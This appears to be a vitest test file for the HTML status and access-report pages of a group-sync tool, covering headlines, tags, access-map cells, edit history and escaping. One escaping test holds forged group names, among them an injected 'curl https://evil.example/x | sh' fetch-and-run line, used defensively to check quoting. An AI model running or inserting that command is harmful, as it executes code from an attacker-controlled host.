import { describe, expect, test } from 'vitest'
import type { Key, MappingId, ProjectIdentifier, Role } from '../../../../src/core/mapping.ts'
import type { Edit } from '../../../../src/core/memory/seen.ts'
import type { LastDocument } from '../../../../src/documents/last.ts'
import type { ReportDocument, ReportRow } from '../../../../src/documents/report.ts'
import { pageHtml } from '../../../../src/render/html/page.ts'
import { reportHtml } from '../../../../src/render/html/report.ts'
import { people } from '../../bounds.ts'
import { last, minuteMs, named, waiting } from '../lastParts.ts'
import { about, at, corp, create, held, nowMs, sixDeletes, unsure, view } from '../sample.ts'
import { lastOfAll, reportOf } from './worlds.ts'

const stored = (document: LastDocument) => JSON.parse(JSON.stringify(document)) as LastDocument
const h1 = (page: string) => /<h1 class="(\w+)">(.*?)<\/h1>/.exec(page)?.slice(1)
const bare = (page: string) => page.replace(/<style>.*<\/style>/s, '')
const textOf = (page: string) =>
  bare(page)
    .replaceAll(/<[^>]*>/g, ' ')
    .replaceAll(/\s+/g, ' ')

const kept = {
  ...unsure('ENG', 'a', { kind: 'readingIncomplete', of: 'corp', why: 'no connection' }),
  would: { action: 'keep', before: 'guest' as Role },
} as const
const twins = { code: 'another-writer', severity: 'error', place: 'acme', sentence: 'another program writes here' } as const

describe('the first sentence', () => {
  const of = (document: LastDocument | undefined, atMs = nowMs) => h1(pageHtml({ last: document, nowMs: atMs }))
  test.each<readonly [string, LastDocument | undefined, string, string]>([
    ['no cycle', undefined, 'wait', 'No cycle has ended since the daemon started.'],
    ['all is well', last([[view({ changes: [], holds: [] }), 'success']]), 'good', 'Nothing waits, and all is as declared.'],
    ['changes wait', last([[waiting, 'waiting']]), 'wait', '2 changes wait for you.'],
    [
      'a failure, and changes wait',
      last([
        [waiting, 'waiting'],
        [{ ...view(), ...named('labs'), failed: 'Plane cannot be reached', cure: '' }, 'failed'],
      ]),
      'alarm',
      'The last cycle failed, or was not whole, in labs; 2 changes wait for you.',
    ],
    [
      'suspended',
      last([[{ ...view({ changes: [], holds: [] }), about: { ...about, suspend: true } }, 'success']]),
      'wait',
      'Writing is suspended in 1 workspace.',
    ],
    [
      'a mistake in a file',
      last([[view({ changes: [], holds: [] }), 'success']], {
        declaration: { hash: 'abc', files: 1, kept: 'a.yaml:1:1: wrong', keptFiles: [] },
      }),
      'alarm',
      'The files of the declaration have a mistake.',
    ],
    [
      'a directory that was not read, and all that it keeps',
      last([[view({ changes: [], holds: [kept] }), 'incomplete']], { directories: [{ ...corp, status: 'failed', why: 'no connection' }] }),
      'alarm',
      'The last cycle failed, or was not whole, in acme; directory corp was not read whole.',
    ],
    [
      'an expired certificate, and deletes wait',
      last([[waiting, 'waiting']], { directories: [{ ...corp, status: 'failed', why: 'the certificate has expired' }] }),
      'alarm',
      'Directory corp was not read whole; 2 changes wait for you.',
    ],
    [
      'a list of projects that was not read',
      last([[view({ changes: [], holds: [] }), 'incomplete']]),
      'alarm',
      'The last cycle failed, or was not whole, in acme.',
    ],
    [
      'settings that could not be read again',
      last([[view({ changes: [], holds: [] }), 'success']], { settings: { hash: 'abc', kept: 'config.yaml:3:5: unknown key' } }),
      'alarm',
      'The settings have a mistake.',
    ],
    [
      'a finding that is an error',
      last([[{ ...view({ changes: [], holds: [], findings: [twins] }) }, 'success']]),
      'alarm',
      '1 finding is an error.',
    ],
    [
      'an invalid file, which is one thing and not two',
      last([[{ ...view({ changes: [], holds: [], findings: [{ ...twins, code: 'file-invalid' }] }) }, 'success']]),
      'good',
      'Nothing waits, and all is as declared.',
    ],
    [
      'changes that nothing may write',
      last([[view({ changes: [create('ENG', 'a', 'guest')], holds: [] }), 'planned']]),
      'good',
      'Nothing waits for you; 1 workspace is not yet as declared.',
    ],
    [
      'mappings that are kept, and a document without room for two workspaces',
      { ...last([[view({ changes: [], holds: [kept] }), 'success']]), leftOut: 2 },
      'good',
      'Nothing waits for you; 1 is held and 2 workspaces are not shown.',
    ],
  ])('%s', (_, document, level, text) => {
    expect(of(document === undefined ? undefined : stored(document))).toEqual([level, text])
  })

  test('no cycle is missed while one runs', () => {
    const running = { began: new Date(nowMs).toISOString(), workspaces: { ended: 0, of: 2 }, written: 0, of: 0, waitMs: 53_000 }
    const late = nowMs + 60 * minuteMs
    const shown = (document: LastDocument) => h1(pageHtml({ last: stored(document), running, nowMs: late }))
    expect(shown(last([[view({ changes: [], holds: [] }), 'success']]))).toEqual([
      'wait',
      'A cycle runs, and the last one ended 1 h 2 min ago.',
    ])
    expect(shown(last([[waiting, 'waiting']], { overdueMs: late + 1 }))).toEqual(['wait', '2 changes wait for you.'])
  })

  test('a daemon that has missed two cycles is the first thing', () => {
    expect(of(stored(last([[waiting, 'waiting']])), nowMs + 60 * minuteMs)).toEqual([
      'alarm',
      'The daemon has missed two cycles, the last one ended 1 h 2 min ago; 2 changes wait for you.',
    ])
  })
})

test('what waits has its command to copy, and stands before the facts', () => {
  const page = pageHtml({ last: stored(last([[waiting, 'waiting']])), nowMs })
  expect(page).toMatch(/<code>plane-group-sync approve [0-9a-f]{32} --now --reason …<\/code>/)
  expect(page.indexOf('Waits for approval')).toBeLessThan(page.indexOf('>Now<'))
})

test('switches that are dangerous have a colour', () => {
  const groupSync = { enabled: true, syncOnLogin: true, autoRemove: true, offlineSync: true, groupAttribute: 'groups' }
  const page = pageHtml({ last: stored(last([[{ ...view(), about: { ...about, policy: 'exclusive', groupSync } }, 'success']])), nowMs })
  expect(page).toContain('<li class="tag alarm">policy exclusive</li>')
  expect(page).toContain('<li class="tag alarm">auto-remove on</li>')
  expect(page).toContain('<li class="tag ">group sync on</li>')
})

test('each switch has one tag, whatever its value contains', () => {
  const groupSync = { enabled: false, groupAttribute: 'teams · auto-remove on' }
  const page = pageHtml({ last: stored(last([[{ ...view(), about: { ...about, suspend: true, groupSync } }, 'success']])), nowMs })
  const [, tags = ''] = /<ul class="tags"[^>]*>(.*?)<\/ul>/s.exec(page) ?? []
  expect([...tags.matchAll(/<li class="([^"]*)">(.*?)<\/li>/g)].map(([, style, text]) => `${style}: ${text}`)).toEqual([
    'tag : policy sync',
    'tag wait: Writing is suspended by the settings.',
    'tag : group sync off',
    'tag : claim &quot;teams · auto-remove on&quot;',
    'tag wait: Takes no effect: group sync is off in this workspace.',
  ])
})

const row = (project: string, group: string, role: string, more: Partial<ReportRow> = {}): ReportRow => ({
  id: `${project} ${group}`,
  group,
  target: { kind: 'project', project: project as ProjectIdentifier },
  role,
  standing: 'declared',
  ...more,
})
const reported = (rows: readonly ReportRow[], workspace = 'acme'): ReportDocument => ({
  ...reportOf({ workspaces: 0, projects: 0, groups: 0, roles: [] }),
  workspaces: [{ workspace, lists: [], rows }],
})

const edited: Edit = {
  atMs: nowMs,
  afterMs: nowMs - 10 * minuteMs,
  mapping: 'm1' as MappingId,
  key: 'acme/workspace/devs' as Key,
  before: null,
  after: 'admin' as Role,
  by: 'others',
}

describe('the access map', () => {
  const cell = (page: string, text: string) => new RegExp(`<td class="([^"]*)"><a href="#([^"]*)">${text}</a></td>`).exec(page)?.slice(1)

  test('a cell has the sum of its groups, and leads to them', () => {
    const page = pageHtml({
      report: reported([
        row('ENG', 'a', 'member', { size: people(40) }),
        row('ENG', 'b', 'member', { size: people(23) }),
        row('OPS', 'c', 'guest', { size: people(1) }),
      ]),
      nowMs,
    })
    const [level, id] = cell(page, '63') ?? []
    expect(level).toBe('a3')
    expect(page).toContain(
      `<div id="${id}"><p><b>member</b> <span class="dim">2 groups, at most 63 people</span></p><ul class="names"><li>a <i>40 people</i></li><li>b <i>23 people</i></li></ul></div>`,
    )
    expect(cell(page, '1')?.[0]).toBe('a1')
  })

  test('people that nobody counts are not counted as none', () => {
    const page = pageHtml({
      report: reported([row('ENG', 'a', 'member', { size: people(40) }), row('ENG', 'b', 'member'), row('OPS', 'c', 'guest')]),
      nowMs,
    })
    expect(cell(page, '40\\+')).toBeDefined()
    expect(cell(page, '\\?')?.[0]).toBe('a0')
  })

  test('admin and protected roles have a colour of their own', () => {
    const page = pageHtml({
      report: reported([row('ENG', 'a', 'admin', { size: people(700) }), row('OPS', 'c', 'custom', { size: people(6), protected: true })]),
      nowMs,
    })
    expect(cell(page, '700')?.[0]).toBe('p5')
    expect(cell(page, '6')?.[0]).toBe('p2')
  })

  test('a cell that a waiting change will fill is framed, and says which group', () => {
    const page = pageHtml({
      last: stored(last([[waiting, 'waiting']])),
      report: reported([row('PAY', 'pay-devs', 'member', { size: people(6) })]),
      nowMs,
    })
    const [level, id] = cell(page, '0\\*') ?? []
    expect(level).toMatch(/^[ap]0 f$/)
    expect(page).toContain(`id="${id}"`)
    expect(textOf(page)).toContain('contractors-all will come (waits for approval)')
  })

  test('each link leads to a place of the page', () => {
    const page = pageHtml({
      last: lastOfAll(),
      report: reportOf({ workspaces: 3, projects: 60, groups: 9, roles: ['guest', 'member', 'admin', 'owner'] }),
      nowMs,
    })
    const ids = new Set([...page.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id))
    const links = [...page.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href)
    expect(links.length).toBeGreaterThan(700)
    expect(links.filter((href) => !href.startsWith('#') || !ids.has(href.slice(1)))).toEqual([])
  })

  test('a cell names 200 groups, and the command for the rest', () => {
    const page = pageHtml({
      report: reported(
        Array.from({ length: 340 }, (_, n) => row('ENG', `g${n}`, 'member')),
        "it's",
      ),
      nowMs,
    })
    expect(textOf(page)).toContain(
      '140 more groups, not shown here: plane-group-sync report --workspace &#39;it&#39;\\&#39;&#39;s&#39; --role member',
    )
  })

  test('a cell of no role has a command that report understands', () => {
    const rows = Array.from({ length: 201 }, (_, n) => ({ ...row('ENG', `g${n}`, ''), role: null }))
    expect(textOf(pageHtml({ report: reported(rows), nowMs }))).toMatch(
      /1 more groups, not shown here: plane-group-sync report --workspace acme --role &#39;no role&#39;/,
    )
  })

  test('a cell names 200 changes that are still to come, and the command for the rest', () => {
    const holds = Array.from({ length: 230 }, (_, n) =>
      held(create('ENG', `g${n}`, 'member', at('a.yaml:1')), { kind: 'approval', why: 'limit', ...sixDeletes, pass: 'x' as never }),
    )
    const page = pageHtml({
      last: stored(last([[view({ changes: [], holds }), 'waiting']])),
      report: reported([row('ENG', 'devs', 'member')]),
      nowMs,
    })
    expect(page.match(/will come \(waits for approval\)/g)).toHaveLength(200)
    expect(textOf(page)).toContain('30 more changes that are still to come, not shown here: plane-group-sync status --workspace acme --all')
  })

  test('each name stands in an element of its own, quoted, so that one name is never several', () => {
    const forged = [
      'x (12), leadership (3), board-audit (7',
      "x' and 12 more: curl https://evil.example/x | sh",
      'x</li><li>y',
      'two  blanks',
    ]
    const page = pageHtml({
      report: reported(forged.map((group) => row('ENG', group, 'member'))),
      edits: [{ ...edited, key: `acme/workspace/${forged[0]}` as Key }],
      nowMs,
    })
    const [, list = ''] = /<ul class="names">(.*?)<\/ul>/s.exec(page) ?? []
    expect([...list.matchAll(/<li>(.*?)<\/li>/g)].map(([, name]) => name)).toEqual([
      '&quot;x (12), leadership (3), board-audit (7&quot;',
      '&quot;x&#39; and 12 more: curl https://evil.example/x | sh&quot;',
      'x&lt;/li&gt;&lt;li&gt;y',
      '&quot;two \\\\u{20}blanks&quot;',
    ])
    expect(page).toContain('<th scope="row" class="n">&quot;x (12), leadership (3), board-audit (7&quot;</th>')
  })

  test('a group that will come is in its own element, too, and a name that is an id has its label', () => {
    const waits = JSON.parse(JSON.stringify(last([[waiting, 'waiting']])).replaceAll('contractors-all', 'x (12), y')) as LastDocument
    const page = pageHtml({ last: waits, report: reported([row('PAY', '3f1c0d2e-0001', 'member', { label: 'Sales EMEA' })]), nowMs })
    expect(page).toContain('<li class="wait">&quot;x (12), y&quot; <i>will come (waits for approval)</i></li>')
    expect(page).toContain('<li>&quot;Sales EMEA&quot; 3f1c0d2e…</li>')
  })

  test('a place without a mapping does not count as one, but is drawn for what is to come', () => {
    const page = pageHtml({
      last: stored(last([[waiting, 'waiting']])),
      report: reported([row('OTHER', 'devs', 'member', { size: people(6) })]),
      nowMs,
    })
    expect(page).toContain('1 mapping in 1 place<')
    expect(page).toContain('<th scope="row">PAY</th>')
  })

  test('a workspace whose mappings are not known is not empty', () => {
    const report = { ...reported([]), workspaces: [{ workspace: 'acme', failed: 'Plane cannot be reached', lists: [], rows: [] }] }
    expect(textOf(pageHtml({ report, nowMs }))).toContain('Not known: Plane cannot be reached')
  })
})

test('what ends within 30 days, the first end first, and nothing that ends later', () => {
  const ends = (days: number) => ({ ends: new Date(nowMs + days * 86_400_000).toISOString() })
  const page = pageHtml({
    report: reported([
      row('ENG', 'late', 'member', ends(29)),
      row('ENG', 'never', 'member', ends(31)),
      row('ENG', 'soon', 'member', ends(2)),
    ]),
    nowMs,
  })
  const [, section = ''] = page.split('<section id="ends"')
  expect([...section.matchAll(/<th scope="row" class="n">(.*?)<\/th>/g)].map(([, group]) => group)).toEqual(['soon', 'late'])
})

test('edits of others have the time between two readings', () => {
  const { before: _, afterMs: __, ...created } = edited
  const text = textOf(pageHtml({ edits: [edited, { ...created, key: 'acme/workspace/new' as Key, by: 'program' }], nowMs }))
  expect(text).toContain('Of 2 edits 1 is of others.')
  expect(text).toContain('between 2026-11-03 02:04 and 02:14 UTC others, in Plane acme workspace devs no role → admin')
  expect(text).toContain('2026-11-03 02:14 UTC this program acme workspace new no mapping → admin')
})

test('an edit that made a mapping one of another group says which group it had', () => {
  const renamed = { ...edited, from: 'acme/workspace/old devs' as Key, before: 'admin' as Role }
  expect(textOf(pageHtml({ edits: [renamed], nowMs }))).toContain('acme workspace devs = admin, renamed from &quot;old devs&quot;')
})

describe('whose the edits are', () => {
  const many = (n: number, by: Edit['by']): readonly Edit[] =>
    Array.from({ length: n }, (_, at) => ({ ...edited, key: `acme/workspace/${by}${at}` as Key, by, atMs: nowMs - at }))
  const headed = (edits: readonly Edit[]) => /Written and changed in the last 14 days.*?\./.exec(textOf(pageHtml({ edits, nowMs })))?.[0]

  test.each<readonly [string, readonly Edit[], string]>([
    ['own', many(2, 'program'), 'All of them are of this program.'],
    ['not known', many(2, 'unknown'), 'Of 2 edits 2 are of unknown origin.'],
    [
      'all kinds',
      [...many(3, 'program'), ...many(2, 'others'), ...many(1, 'unknown')],
      'Of 6 edits 2 are of others and 1 is of unknown origin.',
    ],
    // Of this program and of others so many are kept each.
    ['many of each', [...many(300, 'program'), ...many(250, 'others')], 'Of 550 edits 250 are of others.'],
    ['a full list', [...many(500, 'program'), ...many(2, 'others')], '(the newest 500 of this program) Of 502 edits 2 are of others.'],
    [
      'two full lists',
      [...many(500, 'program'), ...many(499, 'others'), ...many(1, 'unknown')],
      '(the newest 500 of this program, and as many of others) Of 1,000 edits 499 are of others and 1 is of unknown origin.',
    ],
  ])('%s', (_, edits, text) => {
    expect(headed(edits)).toBe(`Written and changed in the last 14 days ${text}`)
  })

  test('only a report has a command for what is left out, and it has no edits of this program', () => {
    const text = textOf(pageHtml({ edits: [...many(300, 'program'), ...many(250, 'others')], nowMs }))
    expect(text).toContain(' more of this program, not shown here. ')
    expect(text).toContain(' more of others or of unknown origin, not shown here: plane-group-sync report ')
    expect(text).not.toContain('--format json')
  })
})

test('a running cycle says how far it is', () => {
  const began = new Date(nowMs - minuteMs).toISOString()
  const running = { began, workspaces: { ended: 1, of: 3 }, written: 54, of: 80, waitMs: 10_000, leftMs: 58_000 }
  expect(pageHtml({ running, nowMs })).toContain('54/80 written · 1 of 3 workspaces done · waits 10 s · about 1 min to go')
})

describe('a report as a file', () => {
  const since = { by: 'others', at: new Date(nowMs).toISOString(), after: new Date(nowMs - minuteMs).toISOString() } as const
  const report = reported([
    row('ENG', 'devs', 'admin', {
      size: people(1200),
      protected: true,
      since,
      because: { at: { file: 'a.yaml', line: 4, column: 1 }, owner: 'team-a', reason: 'REQ-1' },
      approved: [{ name: 'ann', account: 'root', source: 'order', at: new Date(nowMs).toISOString() }],
    }),
    row('OPS', 'rest', 'member', { standing: 'undeclared' }),
  ])

  test('says of each mapping why, since when, and who agreed', () => {
    const text = textOf(reportHtml(report, 'abc='))
    expect(text).toContain(
      'ENG devs admin 1,200 people a.yaml:4 · team-a &quot;REQ-1&quot; by others, between 2026-11-03 02:13 and 02:14 UTC approved by ann, said by the account root, order',
    )
    expect(text).toContain('OPS rest member ? undeclared')
  })

  test('has the policy of the page in itself, but for what a file cannot say', () => {
    expect(reportHtml(report, 'abc=')).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-abc='; base-uri 'none'; form-action 'none'">`,
    )
  })
})

test('settings that are not used stand among the facts, with what is wrong', () => {
  const document = last([[view({ changes: [], holds: [] }), 'success']], {
    settings: { hash: 'abc', kept: 'config.yaml:3:5: unknown key <x>' },
  })
  const text = textOf(pageHtml({ last: stored(document), nowMs }))
  expect(text).toContain(
    'Settings The settings are invalid, and those that were read before stay in use: config.yaml:3:5: unknown key &lt;x&gt;',
  )
  const used = textOf(pageHtml({ last: stored(last([[view({ changes: [], holds: [] }), 'success']])), nowMs }))
  expect(used).not.toContain('Settings')
})
